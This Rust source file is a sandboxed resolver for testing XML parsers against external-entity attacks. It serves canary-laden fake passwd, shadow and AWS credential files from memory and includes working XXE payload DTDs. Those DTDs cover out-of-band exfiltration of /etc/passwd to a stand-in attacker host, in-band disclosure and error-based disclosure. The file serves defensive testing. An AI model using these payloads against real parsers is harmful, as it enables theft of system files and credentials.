//! The only place external XML resources come from: an in-memory
//! filesystem holding a canary secret, and a fake web server.
//!
//! # Guarantees
//!
//! - Nothing here touches the real filesystem or the network: every answer
//!   comes from the fixed tables in this file.
//! - [`VirtualFs::requests`] records every URI asked for, in order, so an
//!   oracle can see a secret leave *out of band* inside a URL.
//! - [`VirtualFs::served_secret`] tells whether any resource holding the
//!   [`CANARY`] was handed out.
//!
//! # The filesystem
//!
//! | URI | content |
//! |---|---|
//! | `file:///etc/passwd` | a passwd file; one account's comment field is the canary |
//! | `file:///etc/shadow` | a shadow file whose hash is the canary |
//! | `file:///home/app/.aws/credentials` | a credentials file with the canary as key |
//! | `file:///etc/hostname` | `sandbox` (no secret) |
//! | `http://attacker.example/evil.dtd` | out-of-band exfiltration: sends `/etc/passwd` to the attacker in a URL |
//! | `http://attacker.example/leak.dtd` | in-band: defines `&leak;` as the text of `/etc/passwd` |
//! | `http://attacker.example/error.dtd` | error-based: puts `/etc/passwd` in a file name that does not exist |
//! | `http://attacker.example/entities.dtd` | a harmless DTD defining `&greeting;` |
//! | any other `http://attacker.example/...` | an empty answer: the attacker's collector, logged |
//!
//! `file:` URIs are matched after normalising `file://localhost/` and
//! `file:/` to `file:///`, and a bare absolute path `/etc/passwd` is taken
//! as `file:///etc/passwd`. Every other host refuses the connection.
//!
//! # Time complexity
//!
//! [`Resolver::resolve`] is O(t + u), t the size of the tables and u the
//! length of the URI.
//!
//! # Panics
//!
//! Never: no indexing, no unwrapping outside the tests.

use std::fmt;

/// The planted secret. Any output of a parse containing it, after the
/// resolver served a secret, is a leak.
pub const CANARY: &str = "GAUNTLET-CANARY-7f3a9c1e5b";

const PASSWD: &str = concat!(
    "root:x:0:0:root:/root:/bin/sh\n",
    "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n",
    "app:x:1000:1000:",
    "GAUNTLET-CANARY-7f3a9c1e5b",
    ":/home/app:/bin/sh\n",
);

const SHADOW: &str = concat!("root:", "GAUNTLET-CANARY-7f3a9c1e5b", ":19000:0:99999:7:::\n");

const CREDENTIALS: &str =
    concat!("[default]\naws_secret_access_key = ", "GAUNTLET-CANARY-7f3a9c1e5b", "\n");

/// Out-of-band exfiltration: reads `/etc/passwd` into `%payload;`, builds a
/// declaration of `%send;` whose URI carries it, and fetches that URI.
const EVIL_DTD: &str = "<!ENTITY % payload SYSTEM \"file:///etc/passwd\">\n\
<!ENTITY % build \"<!ENTITY &#x25; send SYSTEM 'http://attacker.example/collect?%payload;'>\">\n\
%build;\n\
%send;\n";

/// In-band disclosure: `&leak;` becomes the text of `/etc/passwd`.
const LEAK_DTD: &str = "<!ENTITY % payload SYSTEM \"file:///etc/passwd\">\n\
<!ENTITY % build \"<!ENTITY leak '%payload;'>\">\n\
%build;\n";

/// Error-based disclosure: the file's text becomes part of a file name that
/// does not exist, and comes back in the parser's error message.
const ERROR_DTD: &str = "<!ENTITY % payload SYSTEM \"file:///etc/passwd\">\n\
<!ENTITY % build \"<!ENTITY &#x25; fail SYSTEM 'file:///nonexistent/%payload;'>\">\n\
%build;\n\
%fail;\n";

const ENTITIES_DTD: &str = "<!ENTITY greeting \"hello from a remote dtd\">\n";

/// `(uri, content, holds the canary)`.
const RESOURCES: &[(&str, &str, bool)] = &[
    ("file:///etc/passwd", PASSWD, true),
    ("file:///etc/shadow", SHADOW, true),
    ("file:///home/app/.aws/credentials", CREDENTIALS, true),
    ("file:///etc/hostname", "sandbox\n", false),
    ("http://attacker.example/evil.dtd", EVIL_DTD, false),
    ("http://attacker.example/leak.dtd", LEAK_DTD, false),
    ("http://attacker.example/error.dtd", ERROR_DTD, false),
    ("http://attacker.example/entities.dtd", ENTITIES_DTD, false),
];

const ATTACKER: &str = "http://attacker.example/";

/// Why a resource could not be had.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ResolveError {
    /// The URI asked for.
    pub uri: String,
    /// What went wrong, lowercase.
    pub reason: &'static str,
}

impl fmt::Display for ResolveError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "cannot resolve {:?}: {}", self.uri, self.reason)
    }
}

impl std::error::Error for ResolveError {}

/// Where a parser gets external entities and DTDs from.
pub trait Resolver {
    /// The content behind `uri`.
    fn resolve(&mut self, uri: &str) -> Result<Vec<u8>, ResolveError>;
}

/// The in-memory filesystem and web server described in the module docs.
#[derive(Clone, Debug, Default)]
pub struct VirtualFs {
    requests: Vec<String>,
    served_secret: bool,
}

impl VirtualFs {
    /// A resolver with an empty request log.
    pub fn new() -> VirtualFs {
        VirtualFs::default()
    }

    /// Every URI asked for, in order.
    pub fn requests(&self) -> &[String] {
        &self.requests
    }

    /// Whether a resource holding the [`CANARY`] was handed out.
    pub fn served_secret(&self) -> bool {
        self.served_secret
    }
}

/// `file://localhost/x`, `file:/x` and `/x` as `file:///x`.
fn normalise(uri: &str) -> String {
    if let Some(path) = uri.strip_prefix("file://localhost/") {
        return format!("file:///{path}");
    }
    if let Some(path) = uri.strip_prefix("file:///") {
        return format!("file:///{path}");
    }
    if let Some(path) = uri.strip_prefix("file:/") {
        return format!("file:///{}", path.trim_start_matches('/'));
    }
    if uri.starts_with('/') {
        return format!("file://{uri}");
    }
    uri.to_owned()
}

impl Resolver for VirtualFs {
    fn resolve(&mut self, uri: &str) -> Result<Vec<u8>, ResolveError> {
        self.requests.push(uri.to_owned());
        let key = normalise(uri);
        if let Some(&(_, content, secret)) = RESOURCES.iter().find(|(u, _, _)| *u == key) {
            self.served_secret |= secret;
            return Ok(content.as_bytes().to_vec());
        }
        let reason = if key.starts_with(ATTACKER) {
            // The attacker's collector answers anything, and logs it.
            return Ok(Vec::new());
        } else if key.starts_with("file:") {
            "no such file in the virtual filesystem"
        } else if key.starts_with("http://") || key.starts_with("https://") {
            "connection refused (the sandbox has no network)"
        } else {
            "unsupported uri scheme"
        };
        Err(ResolveError { uri: uri.to_owned(), reason })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secrets_are_served_and_logged_and_nothing_else_exists() {
        let mut fs = VirtualFs::new();
        assert!(!fs.served_secret());
        let hostname = fs.resolve("file:///etc/hostname").unwrap();
        assert_eq!(hostname, b"sandbox\n");
        assert!(!fs.served_secret());
        for uri in
            ["file:///etc/passwd", "file:/etc/passwd", "/etc/passwd", "file://localhost/etc/passwd"]
        {
            let passwd = fs.resolve(uri).unwrap();
            assert!(String::from_utf8(passwd).unwrap().contains(CANARY), "{uri}");
        }
        assert!(fs.served_secret());
        assert_eq!(fs.resolve("http://attacker.example/collect?x").unwrap(), b"");
        let e = fs.resolve("file:///etc/nothing").unwrap_err();
        assert_eq!(e.reason, "no such file in the virtual filesystem");
        let e = fs.resolve("http://internal.example/").unwrap_err();
        assert!(e.reason.contains("connection refused"), "{e}");
        assert_eq!(fs.requests().len(), 8);
    }
}
